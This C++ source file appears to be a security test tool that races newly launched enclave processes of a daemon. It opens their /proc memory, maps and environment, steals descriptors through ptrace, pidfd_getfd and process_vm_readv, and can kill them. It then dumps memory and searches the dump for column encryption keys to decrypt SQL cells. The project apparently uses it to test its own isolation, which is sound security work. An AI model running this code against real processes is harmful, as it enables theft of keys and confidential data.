// The attack of the launch race, run for real by an unprivileged user (see
// launch_race_attack_test.sh). It watches for every new child of the given
// parents (the platform daemon) and, from the moment it sees one, tries each
// way an ordinary process has into another: /proc/PID/mem, maps and fd/,
// ptrace, pidfd_getfd, process_vm_readv, and (with --kill) SIGKILL, which
// makes a service relaunch its enclave. Whatever it opens it keeps. When told
// to (--read-after FILE appears), it reads every region it can through what
// it kept, searches what it read for a column encryption key that opens the
// ciphertext cells it was given, and writes what it recovered.
//
//   launch_race_attacker --parents PID[,PID...] --seconds S --out DIR
//                        [--kill] [--cells FILE] [--read-after FILE]
//
// DIR/report holds one "name count" line per outcome; DIR/memory.bin what it
// read; DIR/recovered.txt the plaintexts it decrypted.
#include <dirent.h>
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "common/encoding.h"
#include "common/unique_fd.h"
#include "sql/cell_cipher.h"

namespace {

using Clock = std::chrono::steady_clock;
using cloister::UniqueFd;

// How long each new child is raced from the moment it is seen: long enough
// to cover a fork, an exec and the runtime's start.
constexpr auto kRaceWindow = std::chrono::milliseconds(30);
constexpr std::size_t kMaxDump = std::size_t{512} << 20;
constexpr auto kKeySearchBudget = std::chrono::seconds(60);

struct Options {
  std::set<pid_t> parents;
  double seconds = 10;
  std::string out;
  bool kill = false;
  std::string cells;
  std::string read_after;
};

// Everything an attempt obtained, kept open as a real attacker would. (The
// kernel lets anyone open mem and maps of a process that has no memory left,
// a zombie: such a descriptor reads nothing, so what counts is bytes.)
struct Grab {
  UniqueFd mem;
  UniqueFd maps;
  std::string maps_text;
};

std::string read_all(int fd) {
  std::string text;
  char buffer[4096];
  ssize_t got = 0;
  ::lseek(fd, 0, SEEK_SET);
  while ((got = ::read(fd, buffer, sizeof buffer)) > 0) text.append(buffer, static_cast<std::size_t>(got));
  return text;
}

struct Region {
  std::uint64_t start = 0;
  std::uint64_t end = 0;
};

std::vector<Region> readable_regions(const std::string& maps_text) {
  std::vector<Region> regions;
  std::istringstream lines(maps_text);
  std::string line;
  while (std::getline(lines, line)) {
    // "START-END PERMS ...", in hex.
    char* end = nullptr;
    Region region;
    region.start = std::strtoull(line.c_str(), &end, 16);
    if (*end != '-') continue;
    region.end = std::strtoull(end + 1, &end, 16);
    if (*end == ' ' && end[1] == 'r' && region.end > region.start) regions.push_back(region);
  }
  return regions;
}

std::map<std::string, long> g_counts;

void count(const std::string& what, long n = 1) {
  g_counts[what] += n;
}

pid_t parent_of(pid_t pid) {
  std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
  std::string line;
  if (!std::getline(stat, line)) return -1;
  // pid (comm) state ppid ...: comm may hold spaces, so read after the last ')'.
  auto close = line.rfind(')');
  if (close == std::string::npos) return -1;
  std::istringstream rest(line.substr(close + 1));
  std::string state;
  pid_t ppid = -1;
  rest >> state >> ppid;
  return ppid;
}

std::vector<pid_t> list_pids() {
  std::vector<pid_t> pids;
  DIR* proc = ::opendir("/proc");
  if (proc == nullptr) return pids;
  while (dirent* entry = ::readdir(proc)) {
    if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
      pids.push_back(static_cast<pid_t>(std::strtol(entry->d_name, nullptr, 10)));
  }
  ::closedir(proc);
  return pids;
}

UniqueFd try_open(pid_t pid, const std::string& what) {
  return UniqueFd(::open(("/proc/" + std::to_string(pid) + "/" + what).c_str(), O_RDONLY | O_CLOEXEC));
}

// One round of every way in; true once the process is gone.
bool attempt(pid_t pid, Grab& grab) {
  if (!grab.maps.valid()) {
    grab.maps = try_open(pid, "maps");
    if (grab.maps.valid()) {
      count("maps_opened");
      grab.maps_text = read_all(grab.maps.get());
      count("maps_bytes", static_cast<long>(grab.maps_text.size()));
    }
  }
  if (!grab.mem.valid()) {
    grab.mem = try_open(pid, "mem");
    if (grab.mem.valid()) {
      count("mem_opened");
      // A first page at once, in case the process is gone by the time we read it all.
      char page[4096];
      for (const Region& region : readable_regions(grab.maps_text)) {
        ssize_t got = ::pread(grab.mem.get(), page, sizeof page, static_cast<off_t>(region.start));
        if (got > 0) {
          count("bytes_read_in_race", got);
          break;
        }
      }
    }
  }
  for (int fd = 3; fd <= 5; ++fd) {
    UniqueFd reopened = try_open(pid, "fd/" + std::to_string(fd));
    if (reopened.valid()) count("fd_reopened");
  }
  UniqueFd environ = try_open(pid, "environ");
  if (environ.valid()) {
    count("environ_opened");
    count("environ_bytes", static_cast<long>(read_all(environ.get()).size()));
  }
  if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) {
    count("ptrace_seized");
    ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
  }
  UniqueFd pidfd(static_cast<int>(::syscall(SYS_pidfd_open, pid, 0)));
  if (!pidfd.valid()) return errno == ESRCH;
  for (int fd = 3; fd <= 5; ++fd) {
    UniqueFd stolen(static_cast<int>(::syscall(SYS_pidfd_getfd, pidfd.get(), fd, 0)));
    if (stolen.valid()) count("pidfd_getfd");
  }
  // A guess at an address: any readable byte proves the read works.
  static char probe = 0;
  iovec local{&probe, 1};
  iovec remote{reinterpret_cast<void*>(0x400000), 1};  // NOLINT(performance-no-int-to-ptr)
  if (::process_vm_readv(pid, &local, 1, &remote, 1, 0) == 1) count("vm_read");
  return false;
}

// Races every new child of the parents until the deadline.
std::map<pid_t, Grab> race(const Options& options) {
  std::map<pid_t, Grab> grabs;
  std::set<pid_t> seen;
  std::map<pid_t, Clock::time_point> racing;
  std::set<pid_t> to_kill;
  const auto deadline = Clock::now() + std::chrono::duration<double>(options.seconds);
  for (pid_t pid : list_pids()) seen.insert(pid);  // the race is on new processes
  while (Clock::now() < deadline) {
    for (pid_t pid : list_pids()) {
      if (!seen.insert(pid).second) continue;
      if (options.parents.contains(parent_of(pid))) {
        racing[pid] = Clock::now();
        count("children_seen");
      }
    }
    for (auto it = racing.begin(); it != racing.end();) {
      bool gone = attempt(it->first, grabs[it->first]);
      if (gone || Clock::now() - it->second > kRaceWindow) {
        if (!gone) to_kill.insert(it->first);
        it = racing.erase(it);
      } else {
        ++it;
      }
    }
    // Between launches, a short nap keeps the watcher from taking a whole
    // core; a fork and an exec take longer than the nap.
    if (racing.empty()) std::this_thread::sleep_for(std::chrono::microseconds(100));
    if (options.kill && racing.empty()) {
      for (pid_t pid : to_kill) {
        count("kill_attempts");
        if (::kill(pid, SIGKILL) == 0) count("kills_succeeded");
      }
      to_kill.clear();
    }
  }
  return grabs;
}

// Reads what every kept descriptor reaches into DIR/memory.bin.
std::vector<std::uint8_t> read_memory(std::map<pid_t, Grab>& grabs, const std::string& out) {
  std::vector<std::uint8_t> dump;
  std::vector<std::uint8_t> chunk(1 << 20);
  for (auto& [pid, grab] : grabs) {
    if (!grab.mem.valid()) continue;
    std::string maps = grab.maps.valid() ? read_all(grab.maps.get()) : std::string();
    if (maps.empty()) maps = grab.maps_text;
    for (const Region& region : readable_regions(maps)) {
      for (std::uint64_t at = region.start; at < region.end && dump.size() < kMaxDump;) {
        std::size_t want = static_cast<std::size_t>(std::min<std::uint64_t>(chunk.size(), region.end - at));
        ssize_t got = ::pread(grab.mem.get(), chunk.data(), want, static_cast<off_t>(at));
        if (got <= 0) break;
        dump.insert(dump.end(), chunk.begin(), chunk.begin() + got);
        at += static_cast<std::uint64_t>(got);
      }
    }
  }
  count("bytes_read", static_cast<long>(dump.size()));
  std::ofstream(out + "/memory.bin", std::ios::binary)
      .write(reinterpret_cast<const char*>(dump.data()), static_cast<std::streamsize>(dump.size()));
  return dump;
}

// Every 8-byte aligned 32-byte window of the dump, tried as the column key
// that opens the first cell; a hit decrypts them all.
void search_keys(const std::vector<std::uint8_t>& dump, const std::string& cells_path,
                 const std::string& out) {
  std::vector<cloister::Bytes> cells;
  std::ifstream in(cells_path);
  std::string hex;
  while (in >> hex) {
    auto cell = cloister::from_hex(hex);
    if (cell.is_ok()) cells.push_back(std::move(cell).value());
  }
  if (cells.empty() || dump.size() < cloister::sql::kColumnKeySize) return;
  std::ofstream recovered(out + "/recovered.txt");
  const auto deadline = Clock::now() + kKeySearchBudget;
  for (std::size_t at = 0; at + cloister::sql::kColumnKeySize <= dump.size(); at += 8) {
    if ((at & 0xFFFF) == 0 && Clock::now() > deadline) {
      count("key_search_cut_short");
      break;
    }
    auto key =
        cloister::sql::CellKey::create(cloister::ByteView(dump.data() + at, cloister::sql::kColumnKeySize));
    if (!key.is_ok() || !key->decrypt(cells[0]).is_ok()) continue;
    count("keys_found");
    for (const auto& cell : cells) {
      auto plain = key->decrypt(cell);
      if (!plain.is_ok()) continue;
      count("cells_decrypted");
      // SQL Server's char/varchar cells are the bytes; nchar would be UTF-16.
      recovered << std::string(reinterpret_cast<const char*>(plain->data()), plain->size()) << "\n";
    }
    return;
  }
}

bool parse(int argc, char** argv, Options& options) {
  for (int i = 1; i < argc; ++i) {
    std::string arg = argv[i];
    auto value = [&]() -> std::string { return i + 1 < argc ? argv[++i] : ""; };
    if (arg == "--parents") {
      std::istringstream list(value());
      std::string pid;
      while (std::getline(list, pid, ','))
        options.parents.insert(static_cast<pid_t>(std::strtol(pid.c_str(), nullptr, 10)));
    } else if (arg == "--seconds") {
      options.seconds = std::strtod(value().c_str(), nullptr);
    } else if (arg == "--out") {
      options.out = value();
    } else if (arg == "--kill") {
      options.kill = true;
    } else if (arg == "--cells") {
      options.cells = value();
    } else if (arg == "--read-after") {
      options.read_after = value();
    } else {
      std::cerr << "unknown argument " << arg << "\n";
      return false;
    }
  }
  return !options.parents.empty() && !options.out.empty();
}

}  // namespace

int main(int argc, char** argv) {
  Options options;
  if (!parse(argc, argv, options)) {
    std::cerr
        << "usage: launch_race_attacker --parents PID[,PID] --seconds S --out DIR [--kill] [--cells FILE] "
           "[--read-after FILE]\n";
    return 2;
  }
  for (const char* name :
       {"children_seen", "mem_opened", "maps_opened", "maps_bytes", "bytes_read_in_race", "fd_reopened",
        "environ_opened", "environ_bytes", "ptrace_seized", "pidfd_getfd", "vm_read", "kill_attempts",
        "kills_succeeded", "bytes_read", "keys_found", "cells_decrypted"}) {
    g_counts[name] = 0;
  }
  auto grabs = race(options);
  if (!options.read_after.empty()) {
    // The trusted client releases its keys to the enclave that runs now.
    for (int i = 0; i < 1200 && ::access(options.read_after.c_str(), F_OK) != 0; ++i)
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  auto dump = read_memory(grabs, options.out);
  if (!options.cells.empty()) search_keys(dump, options.cells, options.out);
  std::ofstream report(options.out + "/report");
  for (const auto& [name, n] : g_counts) report << name << " " << n << "\n";
  return report.flush() ? 0 : 1;
}
